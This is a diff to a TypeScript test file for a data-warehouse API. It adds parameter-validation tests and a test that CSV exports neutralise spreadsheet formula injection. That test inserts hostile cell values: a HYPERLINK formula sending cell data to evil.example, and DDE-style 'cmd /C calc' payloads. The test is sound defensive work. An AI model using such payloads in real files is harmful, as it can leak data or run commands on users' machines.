@@ -3,6 +3,7 @@ import { tableFromIPC } from 'apache-arrow';
 import type { Hono } from 'hono';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createApp } from '../../api/app.js';
+import { parseCsv } from '../../core/csv.js';
 import type { Database } from '../../warehouse/database.js';
 import { refreshMarts } from '../../warehouse/refresh.js';
 import { collectAll } from '../support/collect.js';
@@ -55,10 +56,44 @@ describe('parameter validation', () => {
       "parameter 'period' must be a quarter like 2025-Q2; got '2025-03'",
     ],
     ['/api/runs?limit=0', 'limit', "parameter 'limit' must be an integer from 1 to 10000; got '0'"],
+    // Unknown values of known things are named, not answered with an empty table.
+    ['/api/runs?feed=upload', 'feed', "unknown collector 'upload' in parameter 'feed' (one of uploads)"],
+    ['/api/quarantine?feed=cases', 'feed', "unknown collector 'cases' in parameter 'feed' (one of uploads)"],
+    ['/api/reports/versions?metric=insured', 'metric', "unknown figure 'insured' in parameter 'metric'"],
+    ['/api/reports/versions?region=379999', 'region', "unknown region '379999' in parameter 'region'"],
+    [
+      '/api/scores/indicators?scheme=standard&region=370102&period=2025-03&item=9.9',
+      'item',
+      "unknown item '9.9' in parameter 'item': no P1 or P2 item of scheme standard has that code",
+    ],
+    [
+      '/api/scores/indicators?scheme=standard&region=370102&period=2025-03&item=J1',
+      'item',
+      "unknown item 'J1' in parameter 'item': no P1 or P2 item of scheme standard has that code",
+    ],
+    ['/api/regions?format=xml', 'format', "parameter 'format' must be one of json, arrow, csv; got 'xml'"],
+    ['/api/runs?feed=nope&format=xlsx', 'format', "parameter 'format' must be one of json, arrow, csv; got 'xlsx'"],
   ])('%s → 400 naming %s', async (path, _param, message) => {
     const res = await get(path);
     expect(res.status).toBe(400);
     expect(await res.json()).toEqual({ error: message });
+  });
+
+  it('takes known values of those filters, an empty one as none', async () => {
+    const rows = async (path: string) => {
+      const res = await get(path);
+      expect(res.status, path).toBe(200);
+      return (await res.json()).data.length;
+    };
+    expect(await rows('/api/runs?feed=uploads')).toBe(1);
+    expect(await rows('/api/runs?feed=')).toBe(1);
+    const indicators = '/api/scores/indicators?scheme=standard&region=370102&period=2025-03';
+    const all = await rows(indicators);
+    expect(await rows(`${indicators}&item=`)).toBe(all);
+    const p3 = await rows(`${indicators}&item=3`);
+    expect(p3).toBeGreaterThan(0);
+    expect(p3).toBeLessThan(all);
+    expect(await rows(`${indicators}&item=3.5`)).toBeLessThanOrEqual(p3);
   });
 
   it('answers unknown routes with a JSON 404', async () => {
@@ -105,6 +140,25 @@ describe('formats', () => {
     // 槐荫区 uploaded nothing on time, against a median of 50 %: worse than the median.
     expect(lines[3]).toBe('370104,槐荫区,month,2025-03,upload_timeliness,0,3,3,50,-50,true');
     expect(lines).toHaveLength(4);
+  });
+});
+
+describe('CSV downloads of hostile data', () => {
+  it('write text a spreadsheet would run as a formula as inert text', async () => {
+    await db.exec(`INSERT INTO ops_quarantine VALUES
+      (0, 'uploads', '=HYPERLINK("http://evil.example/?"&A1,"点此查看")', '+cmd|'' /C calc''!A0', '{}', TIMESTAMP '2025-03-05 10:00:00'),
+      (0, 'uploads', '@SUM(1+1)*cmd|'' /C calc''!A0', '-1+1', '{}', TIMESTAMP '2025-03-05 09:00:00')`);
+    try {
+      const res = await get('/api/quarantine?feed=uploads&format=csv');
+      const [header, ...lines] = parseCsv(await res.text());
+      expect(header).toEqual(['run_id', 'feed', 'natural_key', 'reason', 'payload', 'quarantined_at']);
+      expect(lines.map((r) => r.slice(2, 4))).toEqual([
+        ['\'=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "'+cmd|' /C calc'!A0"],
+        ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+1"],
+      ]);
+    } finally {
+      await db.exec('DELETE FROM ops_quarantine');
+    }
   });
 });
 
